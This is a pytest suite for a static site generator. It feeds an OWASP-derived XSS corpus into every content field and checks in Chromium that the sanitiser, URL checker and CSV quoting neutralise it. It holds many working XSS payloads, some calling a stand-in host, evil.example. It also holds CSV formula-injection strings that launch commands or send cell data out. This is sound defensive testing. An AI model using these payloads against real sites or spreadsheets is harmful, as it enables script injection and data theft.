"""Script injection: entries carry an XSS corpus in every text field and in the body.

The payloads come from the OWASP XSS filter-evasion cheat sheet and its usual
variants, plus Markdown- and template-specific ones. Payloads that are
addresses (javascript:, vbscript:, data:) must be refused by ``dvk check`` at
their line; the rest are built into a real site, which Chromium then loads page
by page: no dialog may open, no payload's script may run, and no request may
leave 127.0.0.1.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, Route

from bench.server import serve
from conftest import Site
from generator.check.unsafe import unsafe_urls
from generator.publish.opendata import csv_cell
from generator.render.sanitise import clean_body

# --- The corpus -------------------------------------------------------------------------------

MARKDOWN_PAYLOADS: tuple[str, ...] = (
    # Markdown and its extensions (attr_list, toc, admonition, tables)
    '## Tiêu đề {: onclick="alert(1)" }',
    "## Mục lục {: id='x\" onmouseover=\"alert(1)' }",
    "## Nhãn {: data-toc-label=\"<img src=x onerror=alert(1)>\" }",
    '[liên kết](https://example.org){: onmouseover="alert(1)" }',
    '[tiêu đề liên kết](#ket-qua-noi-bat "\\" onclick=\\"alert(1)")',
    '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | c |",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '<div markdown="1">*x* <script>window.__xss=1</script></div>',
    # Template syntax must stay text: the body is never a Jinja template.
    "{{ config.site_name }} {% for x in range(3) %}{{ x }}{% endfor %} {{7*7}}",
)
HTML_PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__xss=1">',
    '<IMG SRC=# onmouseover="alert(1)">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<svg/onload=alert(1)>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<div style="width: expression(alert(1));">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x.swf>",
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<div onpointerover="alert(1)">x</div>',
    "<x onclick=alert(1)>x</x>",
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    # Mutation XSS: parsed once by the sanitiser, again by the browser.
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)
URL_PAYLOADS: tuple[str, ...] = (
    # Markdown links, images, references, autolinks
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x]( <javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    # Raw HTML attributes, and the cheat sheet's encodings of the scheme
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<img src="jav\tascript:alert(1)">',
    '<img src=" &#14;  javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<IMG DYNSRC="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<input type="image" src="javascript:alert(1)">',
)
CSV_PAYLOADS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
)
"""Formula injection: harmless in HTML, run by a spreadsheet opening the CSV."""
FIELD_PAYLOADS = CSV_PAYLOADS + HTML_PAYLOADS + MARKDOWN_PAYLOADS + URL_PAYLOADS
"""Every payload is plain text in the front matter, where it must stay text."""

ENTRIES = 4
SEARCH_WORD = "xsstest"
SLOTS = ("summary", "locality", "unit", "source_title", "publisher", "author", "note", "alt",
         "credit")


def _entry_fields(number: int) -> dict[str, Any]:
    """Entry ``number``'s front matter: a share of the payloads in every text field."""
    share = FIELD_PAYLOADS[number::ENTRIES]
    slot = dict(zip(SLOTS, share, strict=False))
    return {
        "title": f"Mô hình {SEARCH_WORD} {number} {HTML_PAYLOADS[number]}",
        "summary": slot["summary"],
        "locality": slot["locality"],
        "unit": slot["unit"],
        "results": list(share),  # so that every payload is in some field
        "sources": [{"title": slot["source_title"], "publisher": slot["publisher"],
                     "author": slot["author"], "date": dt.date(2024, 7, 24),
                     "note": slot["note"]}],
        "images": [{"src": "anh.jpg", "alt": slot["alt"], "credit": slot["credit"]}],
        "body": "## Bối cảnh\n\n" + "\n\n".join((*MARKDOWN_PAYLOADS, *HTML_PAYLOADS)) + "\n",
    }


def _sample(site: Site) -> None:
    site.write_config()
    site.raw("index.md", "---\ntemplate: dvk/home.html\ntitle: Trang chủ\n---\n# Thử\n")
    site.raw("gioi-thieu.md", "# Giới thiệu\n\nThử.\n")
    site.raw("dong-gop.md", "# Đóng góp\n\nThử.\n")


@pytest.fixture(scope="module")
def xss_site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """A site like conftest's ``site``, with entries carrying the whole non-URL corpus."""
    site = Site(tmp_path_factory.mktemp("xss"))
    _sample(site)
    folder = site.content / "mo-hinh/nghe-an"
    folder.mkdir(parents=True)
    Image.new("RGB", (480, 320), (200, 40, 40)).save(folder / "anh.jpg", quality=80)
    for number in range(ENTRIES):
        site.entry(f"xss-{number}", **_entry_fields(number))
    assert site.run("build") == 0
    return site


# --- The check --------------------------------------------------------------------------------


def test_the_corpus_is_large_enough() -> None:
    """At least 40 payloads, each a distinct string."""
    every = MARKDOWN_PAYLOADS + HTML_PAYLOADS + URL_PAYLOADS + CSV_PAYLOADS
    assert len(every) >= 40
    assert len(set(every)) == len(every)


def test_url_payloads_are_refused_at_their_lines(
    site: Site, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each javascript:/vbscript:/data: address of a body is an `unsafe-url` error at its line."""
    body = "## Bối cảnh\n\n" + "\n\n".join(URL_PAYLOADS) + "\n\n[dùng tham chiếu][r]\n"
    path = site.entry("duong-dan-doc", body=body)
    lines = path.read_text(encoding="utf-8").splitlines()
    expected = {number for number, line in enumerate(lines, start=1)
                if any(line == p.split("\n")[0] for p in URL_PAYLOADS)}
    assert len(expected) == len(URL_PAYLOADS)

    assert site.run("check", "--format", "json") == 1
    problems = json.loads(capsys.readouterr().out)["problems"]
    refused = [(p["line"], p["field"]) for p in problems if p["rule"] == "unsafe-url"]
    assert sorted(refused) == sorted((line, "body") for line in expected)
    assert {p["rule"] for p in problems} == {"unsafe-url"}


def test_markup_payloads_pass_the_check_and_ordinary_links_are_not_refused() -> None:
    """Markup without a refused address is left to the sanitiser; https links and text pass."""
    body = "\n\n".join((*MARKDOWN_PAYLOADS, *HTML_PAYLOADS, "[bài](https://baothu.vn/?u=data:x)",
                        "Bàn về javascript: trong văn bản.", "<b>a=javascript:</b>"))
    assert unsafe_urls(body, "x.md", 1) == []


def test_a_source_url_must_be_http(site: Site, capsys: pytest.CaptureFixture[str]) -> None:
    """Front-matter addresses are restricted to http(s) by the schema (rule bad-url)."""
    site.entry("nguon-doc", sources=[{"title": "Bài", "date": dt.date(2024, 7, 24),
                                      "url": "javascript:alert(1)"}])
    assert site.run("check", "--format", "json") == 1
    rules = {p["rule"] for p in json.loads(capsys.readouterr().out)["problems"]}
    assert rules == {"bad-url"}


# --- The sanitiser ----------------------------------------------------------------------------


def test_the_sanitiser_keeps_what_markdown_makes() -> None:
    """Headings with ids, permalinks, tables, admonitions, images and links survive cleaning."""
    rendered = (
        '<h2 id="boi-canh">Bối cảnh<a class="headerlink" href="#boi-canh" '
        'title="Permanent link">¶</a></h2>\n'
        '<div class="admonition note"><p class="admonition-title">Ghi chú</p><p>x</p></div>\n'
        '<table><thead><tr><th style="text-align: left;">a</th></tr></thead>'
        "<tbody><tr><td>1</td></tr></tbody></table>\n"
        '<p><img alt="ảnh" src="anh.jpg" title="t"> <a href="../khac/">trong</a> '
        '<a href="https://baothu.vn/bai">ngoài</a> <em>e</em> <strong>s</strong> '
        "<code>c</code></p><blockquote><ul><li>x</li></ul></blockquote><!-- gợi ý -->"
    )
    cleaned = clean_body(rendered)
    for kept in ('<h2 id="boi-canh">', '<a class="headerlink" href="#boi-canh" '
                 'title="Permanent link">', '<div class="admonition note">',
                 '<th class="dvk-align-left">', '<img alt="ảnh" src="anh.jpg" title="t">',
                 '<a href="../khac/">trong</a>',
                 '<a href="https://baothu.vn/bai" rel="noopener ugc">ngoài</a>',
                 "<em>e</em>", "<code>c</code>", "<blockquote><ul><li>x</li></ul></blockquote>"):
        assert kept in cleaned, kept
    assert "<!--" not in cleaned
    assert 'href="#boi-canh" title="Permanent link" rel=' not in cleaned  # internal: no rel


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted() -> None:
    """OWASP: a cell starting with = + - @ tab or CR gets a leading apostrophe."""
    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(formula) == "'" + formula
    for harmless in ("Hà Nội", "", "a=b", 2024):
        assert csv_cell(harmless) == harmless


# --- The built site, read back -----------------------------------------------------------------


def test_the_open_data_csv_has_no_formula_cell(xss_site: Site) -> None:
    """No CSV cell starts a formula; the JSON keeps the text exactly as written."""
    raw = (xss_site.out / "du-lieu/mo-hinh.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == ENTRIES + 1
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + CSV_PAYLOADS[0] in cells
    data = json.loads((xss_site.out / "du-lieu/mo-hinh.json").read_text(encoding="utf-8"))
    assert CSV_PAYLOADS[0] in {row["summary"] for row in data}


def _json_ld(html: str) -> Any:
    found = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)
    assert len(found) == 1, "the JSON-LD element was cut short or doubled"
    return json.loads(found[0])


def test_json_ld_parses_and_never_closes_its_script(xss_site: Site) -> None:
    """The JSON-LD of every entry parses, keeps the titles, and holds no raw < > &."""
    for number in range(ENTRIES):
        html = xss_site.html(f"mo-hinh/xss-{number}/")
        block = html.split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
        assert not set(block) & set("<>&")
        data = _json_ld(html)
        fields = _entry_fields(number)
        assert data["name"] == fields["title"]
        assert data["description"] == fields["summary"]


def test_feeds_carry_the_titles_as_text(xss_site: Site) -> None:
    """The Atom feed parses as XML, its titles exactly the entries' titles."""
    tree = ET.parse(xss_site.out / "atom.xml")
    titles = {e.text for e in tree.getroot().iter("{http://www.w3.org/2005/Atom}title")}
    assert {_entry_fields(n)["title"] for n in range(ENTRIES)} <= titles
    ET.parse(xss_site.out / "rss.xml")


# --- In Chromium --------------------------------------------------------------------------------

PAGES = (
    *(f"mo-hinh/xss-{n}/" for n in range(ENTRIES)),
    "", "tinh-thanh/nghe-an/", "linh-vuc/kinh-te/", "nam/2024/", "loai/tap-the/",
)
FORBIDDEN_IN_BODY = ("script", "iframe", "object", "embed", "base", "meta", "link", "form",
                     "input", "button:not(.md-code__button)", "style", "svg", "math", "video",
                     "audio", "details", "noscript", "select", "marquee", "x")
"""Elements a body may not keep (Material's own copy button on code blocks excepted)."""


@pytest.fixture(scope="module")
def served(xss_site: Site) -> Iterator[str]:
    """The built site over HTTP on 127.0.0.1."""
    with serve(xss_site.out) as base:
        yield base


class Watch:
    """What a page did that it must not: dialogs and requests off 127.0.0.1."""

    def __init__(self, page: Page) -> None:
        self.dialogs: list[str] = []
        self.outside: list[str] = []
        page.on("dialog", self._dialog)
        page.route("**/*", self._route)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _route(self, route: Route) -> None:
        url = route.request.url
        if urlsplit(url).hostname != "127.0.0.1":
            self.outside.append(url)
            route.abort()
        else:
            route.continue_()


def _settle(page: Page) -> None:
    # Events fired after load (ontoggle, onfocus, onbegin) get two frames to run.
    page.evaluate("() => new Promise(r => requestAnimationFrame(() => "
                  "requestAnimationFrame(() => setTimeout(r, 50))))")


def _assert_clean(page: Page, watch: Watch, url: str) -> None:
    _settle(page)
    assert watch.dialogs == [], f"{url}: a dialog opened: {watch.dialogs}"
    assert watch.outside == [], f"{url}: requests left 127.0.0.1: {watch.outside}"
    assert page.evaluate("() => typeof window.__xss") == "undefined", url
    handlers = page.evaluate(
        "() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]"
        ".filter(a => a.name.startsWith('on')).map(a => e.tagName + ' ' + a.name))")
    assert handlers == [], f"{url}: event-handler attributes: {handlers}"
    payload_scripts = page.evaluate(
        "() => [...document.scripts].filter(s => s.type !== 'application/ld+json')"
        ".map(s => s.text + ' ' + s.src)"
        ".filter(t => t.includes('alert(') || t.includes('__xss') || t.includes('evil.'))")
    assert payload_scripts == [], url


@pytest.mark.browser
def test_no_payload_runs_on_any_page(browser: Browser, served: str) -> None:
    """Entry pages, the home and the indexes listing them: no dialog, script or outside request."""
    context = browser.new_context()
    try:
        for path in PAGES:
            page = context.new_page()
            watch = Watch(page)
            page.goto(served + path, wait_until="load")
            _assert_clean(page, watch, path)
            if path.startswith("mo-hinh/"):
                number = int(path.strip("/").rsplit("-", 1)[1])
                fields = _entry_fields(number)
                # The payload is shown as the text it is, not parsed.
                assert page.inner_text("article h1") == fields["title"]
                assert page.inner_text(".dvk-summary") == fields["summary"]
                found = page.evaluate(
                    "tags => tags.filter(t => document.querySelector('.dvk-body ' + t))",
                    list(FORBIDDEN_IN_BODY))
                assert found == [], f"{path}: the body kept {found}"
                bad_links = page.evaluate(
                    "() => [...document.querySelectorAll('.dvk-body a[href], .dvk-body img')]"
                    ".map(e => e.getAttribute('href') || e.getAttribute('src') || '')"
                    ".filter(u => u && !/^(https?:|#|\\.|\\/|[\\w-]+(\\.\\w+)?$)/.test(u))")
                assert bad_links == [], bad_links
                toc = page.evaluate(
                    "() => [...document.querySelectorAll('.md-nav--secondary a')]"
                    ".map(a => a.getAttributeNames().join(' '))")
                assert all(set(names.split()) <= {"href", "class"} for names in toc), toc
            page.close()
    finally:
        context.close()


@pytest.mark.browser
def test_search_results_show_payload_titles_as_text(browser: Browser, served: str) -> None:
    """The search index's cards and the search page render titles and summaries as text."""
    context = browser.new_context()
    try:
        page = context.new_page()
        watch = Watch(page)
        page.goto(f"{served}tim-kiem/?q={SEARCH_WORD}", wait_until="load")
        page.wait_for_function(
            f"() => document.querySelectorAll('.dvk-result').length === {ENTRIES}")
        titles = page.eval_on_selector_all(".dvk-result__title", "els => els.map(e => e.innerText)")
        assert sorted(titles) == sorted(_entry_fields(n)["title"] for n in range(ENTRIES))
        # The header box's suggestions render the same titles and summaries.
        page.fill("#dvk-searchbox-q", SEARCH_WORD)
        page.wait_for_function(
            "() => document.querySelectorAll('.dvk-suggest__title').length > 0")
        _assert_clean(page, watch, "tim-kiem/")
    finally:
        context.close()


def test_a_body_cannot_take_materials_own_ids() -> None:
    """`__config` is JSON.parse'd from the first element with that id: a body must not own it."""
    cleaned = clean_body('<p id="__config">{"features": []}</p><label for="__drawer">x</label>'
                         '<h2 id="cach-lam">Cách làm</h2>')
    assert "__config" not in cleaned and "__drawer" not in cleaned
    assert '<h2 id="cach-lam">' in cleaned
    cleaned = clean_body('<h3 title="a > b" id=" __search" class="x">Tiêu đề</h3>'
                         '<p>Viết id="__config" trong văn bản.</p><p id="ten__ok">y</p>')
    assert cleaned == ('<h3 title="a &gt; b" class="x">Tiêu đề</h3>'
                       '<p>Viết id="__config" trong văn bản.</p><p id="ten__ok">y</p>')


def test_aligned_table_columns_keep_their_alignment_without_a_style_attribute() -> None:
    """The tables extension aligns with style=""; the CSP refuses it, so it becomes a class."""
    import markdown

    html = markdown.markdown("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |\n",
                             extensions=["tables"])
    assert 'style="text-align: right;"' in html  # what the extension writes
    cleaned = clean_body(html)
    assert "style=" not in cleaned
    for side in ("left", "right", "center"):
        assert f'class="dvk-align-{side}"' in cleaned
    css = (Path(__file__).parents[1] / "theme/assets/stylesheets/dvk.css").read_text("utf-8")
    assert ".dvk-align-right { text-align: right; }" in css
